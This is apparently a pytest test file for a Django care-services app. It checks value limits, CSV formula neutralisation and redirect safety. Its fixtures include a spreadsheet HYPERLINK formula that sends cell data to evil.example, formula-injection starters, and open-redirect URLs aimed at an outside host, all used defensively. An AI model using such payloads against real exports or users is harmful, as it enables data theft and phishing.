"""Absurd values are refused with a code wherever they enter (page, API, service); exports cannot
carry spreadsheet formulas; the complaint form's `next` cannot send anyone to another site."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from fritt.accounts.services import issue_api_token
from tenants.recipients import services
from tenants.recipients.models import QualityCase, ServiceDecision
from tests.factories import new_decision, new_recipient, site_client

TODAY = timezone.localdate()
YEAR_1 = datetime.date(1, 1, 1)
YEAR_9999 = datetime.date(9999, 12, 31)


@pytest.mark.parametrize(
    ("kwargs", "code"),
    [
        ({"extent": Decimal("99999.9")}, "extent_too_large"),
        ({"extent": Decimal("168.1")}, "extent_too_large"),
        ({"valid_from": YEAR_1}, "date_out_of_range"),
        ({"valid_from": YEAR_9999}, "date_out_of_range"),
        ({"valid_to": YEAR_9999}, "date_out_of_range"),
    ],
)
def test_the_service_refuses_an_absurd_decision(world, case_worker, kwargs, code):
    recipient = new_recipient(case_worker)
    with pytest.raises(ValidationError) as refused:
        new_decision(case_worker, recipient, world["service"], **kwargs)
    assert refused.value.code == code
    assert not ServiceDecision.objects.exists()


def test_a_full_week_is_still_a_decision(world, case_worker):
    decision = new_decision(case_worker, new_recipient(case_worker), world["service"], extent=168)
    assert decision.extent == 168


@pytest.mark.parametrize(
    ("data", "field", "code"),
    [
        ({"extent": "99999.9"}, "extent", "max_value"),
        ({"valid_from": "0001-01-01"}, "valid_from", "date_out_of_range"),
        ({"valid_from": "9999-12-31"}, "valid_from", "date_out_of_range"),
        ({"valid_to": "9999-12-31"}, "valid_to", "date_out_of_range"),
    ],
)
def test_the_page_and_the_api_refuse_an_absurd_decision(world, case_worker, data, field, code):
    from tenants.recipients.forms import DecisionForm

    recipient = new_recipient(case_worker)
    good = {"service_type": world["service"].pk, "extent": "4", "extent_unit": "timer per uke",
            "valid_from": TODAY.isoformat()}  # fmt: skip
    form = DecisionForm({**good, **data})
    assert not form.is_valid()
    assert [e.code for e in form.errors.as_data()[field]] == [code]
    site_client("bergen", case_worker).post(
        f"/ansatt/mottakere/{recipient.pk}/vedtak/", {**good, **data}
    )
    token = issue_api_token(user=case_worker).secret
    api = site_client("bergen").post(
        f"/api/v1/mottakere/{recipient.pk}/vedtak/",
        {**good, "service_type": "praktisk-bistand", **data},
        content_type="application/json", HTTP_AUTHORIZATION=f"Token {token}",
    )  # fmt: skip
    assert api.status_code == 400 and field in api.json()
    assert not ServiceDecision.objects.exists()


def test_a_case_needs_a_sane_date_and_length(world, case_worker):
    with pytest.raises(ValidationError) as refused:
        services.register_case(by=case_worker, kind="complaint", description="Kom ikke.",
                               received_on=YEAR_9999, approval=None)  # fmt: skip
    assert refused.value.code == "date_out_of_range"
    with pytest.raises(ValidationError) as refused:
        services.register_case(by=case_worker, kind="complaint", description="x" * 20_001,
                               received_on=TODAY, approval=None)  # fmt: skip
    assert refused.value.code == "max_length"
    assert not QualityCase.objects.exists()


def _export_rows(client) -> list[list[str]]:
    response = client.get("/ansatt/mottakere/eksport.csv")
    assert response["Content-Type"].startswith("text/csv")
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_the_export_neutralises_spreadsheet_formulas(world, case_worker):
    hyperlink = '=HYPERLINK("https://evil.example/?d="&B2;"Klikk")'
    new_recipient(case_worker, name=hyperlink)
    new_recipient(case_worker, name="@SUM(1)")
    plain = new_recipient(case_worker, name="Ragnhild Hansen")
    plain.phone = "+47 55 00 00 00"
    plain.address = "-1+1"
    plain.save()
    rows = _export_rows(site_client("bergen", case_worker))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + hyperlink, "'@SUM(1)", "Ragnhild Hansen"}
    by_name = {row[1]: row for row in rows[1:]}
    assert by_name["Ragnhild Hansen"][2] == "'-1+1"
    assert by_name["Ragnhild Hansen"][6] == "'+47 55 00 00 00"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value):
    from fritt.web.csv_export import neutralise

    assert neutralise(value) == "'" + value
    assert neutralise("Ola Nordmann") == "Ola Nordmann"
    assert neutralise(42) == 42


CASE = {"kind": "complaint", "provider": "kommunal", "received_on": TODAY.isoformat(),
        "description": "Kom ikke."}  # fmt: skip


@pytest.mark.parametrize(
    "target",
    ["https://evil.example/", "//evil.example", "///evil.example", "https:evil.example",
     "/\\evil.example", "http://bergen.localhost.evil.example/"],
)  # fmt: skip
def test_next_after_a_complaint_stays_on_the_site(world, case_worker, target):
    recipient = new_recipient(case_worker)
    response = site_client("bergen", case_worker).post(
        "/ansatt/klager-og-avvik/", {**CASE, "recipient": recipient.pk, "next": target}
    )
    assert response.status_code == 302
    assert response["Location"] == "/ansatt/klager-og-avvik/"
    assert QualityCase.objects.filter(recipient=recipient).exists()


def test_next_to_a_page_on_the_site_is_followed(world, case_worker):
    recipient = new_recipient(case_worker)
    back = f"/ansatt/mottakere/{recipient.pk}/"
    response = site_client("bergen", case_worker).post(
        "/ansatt/klager-og-avvik/", {**CASE, "recipient": recipient.pk, "next": back}
    )
    assert response["Location"] == back
